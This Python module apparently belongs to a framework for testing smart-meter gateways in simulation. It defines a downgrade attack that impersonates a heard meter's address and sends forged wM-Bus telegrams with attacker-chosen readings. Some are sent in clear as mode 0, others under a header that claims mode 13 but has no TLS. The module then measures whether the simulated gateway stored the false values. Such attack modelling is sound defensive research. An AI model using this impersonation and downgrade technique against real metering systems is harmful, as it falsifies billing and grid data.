"""Telegrams in the name of a radio meter of security profile C that say they need no TLS."""

from __future__ import annotations

from dataclasses import dataclass, field

from attacks.attack import Can, Outcome, Steps, attack
from attacks.parts.delivered_forgeries import SECURITY
from attacks.parts.radio_cycles import Cycles
from attacks.reach import Reach
from sim.smart_metering.lmn.radio_registers import Counted, records_of
from sim.truth.ground_truth import Spoken, Truth
from sim.truth.radio_values import wrong_rows
from sim.truth.wrong_rows import altered
from wmbus import mode13
from wmbus.link import SND_NR, Address
from wmbus.telegram import build, seal
from wmbus.transport import CI_SHORT, Transport

AGREED = "agreed was mode 13"
MODE_0 = "mode 0 in a meter's name: values stored"
STRIPPED = "mode 13 said, and no TLS in it: values stored"
DRAWN = {MODE_0: 4_711, STRIPPED: 4_712}
"""Tenths of a watt hour, by which the forms are told apart."""


@attack(
    id="smgw.downgrade",
    title="Send in clear in the name of a meter whose messages are TLS",
    threats=["L19"],
    can=Can.HEAR | Can.SPEAK,
    ics=["T0856", "T0860"],
    weakness={"system.wireless_pinned": False},
    seen_as="gateway: refused, agreed was mode 13",
    refused_as=(AGREED,),
)
@dataclass
class SmgwModeDowngrade:
    """A meter's address is heard; telegrams with registers of the attacker's choice are sent in its name, in mode 0,
    and with a header that says mode 13 in front of plain records. No session is touched. A telegram in mode 7 is none
    of these: it needs a key that the gateway has, and of these meters it has none. Control: a gateway that believes
    what a telegram says of its own protection."""

    learn_s: float = 900.0
    shots_each: int = 2
    apart_s: float = 20.0
    cycles: Cycles = field(default_factory=Cycles)
    spoken: dict[str, list[Spoken]] = field(default_factory=lambda: {name: [] for name in DRAWN})

    def run(self, reach: Reach) -> Steps:
        reach.listen(self.cycles.note)
        yield reach.wait_until(self.learn_s)
        for number in range(self.shots_each):
            for meter in sorted(self.cycles.demands, key=str):
                for variant, drawn in DRAWN.items():
                    yield reach.wait(self.apart_s)
                    reach.note("speak", f"{variant}, {meter}")
                    self.spoken[variant].append(reach.speak(_forged(variant, meter, number, Counted(drawn, 0))))

    def outcomes(self, truth: Truth) -> list[Outcome]:
        wrong = altered(wrong_rows(truth.world))
        out = []
        for variant, spoken in self.spoken.items():
            reached = sum(bool(one.taken) for one in spoken)
            stored = sum(f": {DRAWN[variant]}, must be" in row for row in wrong)
            why = f"{stored} stored" if stored else f"refused: {AGREED}"
            evidence = {"telegrams sent": len(spoken), "wrong values stored": stored}
            out.append(Outcome(variant, SECURITY, reached, stored, why=why, evidence=dict(evidence)))
        return out


def _forged(variant: str, meter: Address, acc: int, counted: Counted) -> bytes:
    records = records_of(counted)
    if variant == MODE_0:
        return build(meter, acc, 0, records, security="none")
    header = Transport(CI_SHORT, acc, 0, mode13.configuration(len(records)), ext=bytes((mode13.RECORDS,)))
    return seal(SND_NR, meter, records, header)
